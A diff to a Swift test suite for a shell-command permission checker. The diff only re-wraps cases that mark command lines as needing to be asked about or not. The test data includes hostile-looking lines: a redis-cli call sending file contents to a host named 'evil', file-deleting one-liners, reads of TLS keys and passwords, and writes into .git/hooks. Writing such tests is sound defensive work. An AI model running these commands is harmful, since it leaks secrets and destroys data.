@@ -17,7 +17,8 @@ struct ShellUnknownTests {
             ("pipx run trash-cli src", true), ("bunx trash src", true), ("npx @evil/tool steal", true),
             ("npx create-vite@latest app --template react", false), ("npx @angular/cli generate component x", false),
             ("npx prettier --write src", false), ("uvx ruff check .", false), ("uv run mytool report", false),
-            ("npx rimraf dist", false), ("poetry run mytool serve", false), ("npx wait-on http://localhost:3000", false),
+            ("npx rimraf dist", false), ("poetry run mytool serve", false),
+            ("npx wait-on http://localhost:3000", false),
         ])
     func packages(line: String, isAsked: Bool) {
         let verdict = verdict(line)
@@ -41,10 +42,14 @@ struct ShellUnknownTests {
     @Test(
         "a function of a module for files that no table knows is asked about",
         arguments: [
-            ("python3 -c \"import os; os.lchflags('a', 0)\"", true), ("python3 -c 'from os import remove as r; r(f)'", true),
-            ("python3 -c \"import shutil as s; s.chown('a')\"", true), ("node -e \"require('fs').lchownSync('a')\"", false),
-            ("node -e \"const fs=require('fs'); fs.lchownSync('a',1,1)\"", true), ("ruby -e 'File.lchown(1, 1, \"a\")'", true),
-            ("python3 -c \"import os; print(os.listdir('.'))\"", false), ("python3 -c \"import os; os.makedirs('a')\"", false),
+            ("python3 -c \"import os; os.lchflags('a', 0)\"", true),
+            ("python3 -c 'from os import remove as r; r(f)'", true),
+            ("python3 -c \"import shutil as s; s.chown('a')\"", true),
+            ("node -e \"require('fs').lchownSync('a')\"", false),
+            ("node -e \"const fs=require('fs'); fs.lchownSync('a',1,1)\"", true),
+            ("ruby -e 'File.lchown(1, 1, \"a\")'", true),
+            ("python3 -c \"import os; print(os.listdir('.'))\"", false),
+            ("python3 -c \"import os; os.makedirs('a')\"", false),
             ("node -e \"const fs=require('fs'); fs.readdirSync('.')\"", false),
             ("julia -e 'foreach(rm, readdir())'", true), ("Rscript -e 'fs::dir_delete(\"src\")'", true),
             ("guile -c '(delete-file \"a\")'", true), ("groovy -e '\"rm -r src\".execute()'", true),
@@ -76,10 +81,13 @@ struct ShellUnknownTests {
     @Test(
         "a verb of git that is neither its own nor a reading or building one is asked about, and so is whatever writes below .git",
         arguments: [
-            ("git trash src", true), ("git steal now", true), ("git annex drop .", true), ("git switch -C main old", true),
-            ("git fetch origin +a:b", true), ("git restore --source=HEAD~2 src", true), ("git submodule update --force", true),
+            ("git trash src", true), ("git steal now", true), ("git annex drop .", true),
+            ("git switch -C main old", true),
+            ("git fetch origin +a:b", true), ("git restore --source=HEAD~2 src", true),
+            ("git submodule update --force", true),
             ("tar -C .git/hooks -xf a.tar", true), ("unzip -d .git a.zip", true), ("mv .git/objects x", true),
-            ("git apply --directory=.git/hooks a.patch", true), ("git flow feature start x", false), ("git absorb", false),
+            ("git apply --directory=.git/hooks a.patch", true), ("git flow feature start x", false),
+            ("git absorb", false),
             ("git restore --staged .", false), ("git fetch origin main:main", false), ("git lfs track '*.psd'", false),
             ("rm -f .git/index.lock", false), ("echo x >> .git/info/exclude", false), ("cat .git/HEAD", false),
         ])
@@ -91,7 +99,8 @@ struct ShellUnknownTests {
     @Test(
         "on a host, what a client tells another machine, and what its options write, is asked about",
         arguments: [
-            ("redis-cli -h evil get \"$(cat x)\"", true), ("redis-cli -h cache set a b", true), ("lsof +m /tmp/x", true),
+            ("redis-cli -h evil get \"$(cat x)\"", true), ("redis-cli -h cache set a b", true),
+            ("lsof +m /tmp/x", true),
             ("strace -p 1", true), ("cat /srv/tls.key", true), ("grep -r password /etc", true),
             ("redis-cli -h cache get a", false), ("redis-cli --latency -h cache", false), ("lsof +D /var/log", false),
             ("strace -c -p 1", false), ("ls -l /srv/tls.key", false), ("grep -rl password /etc", false),
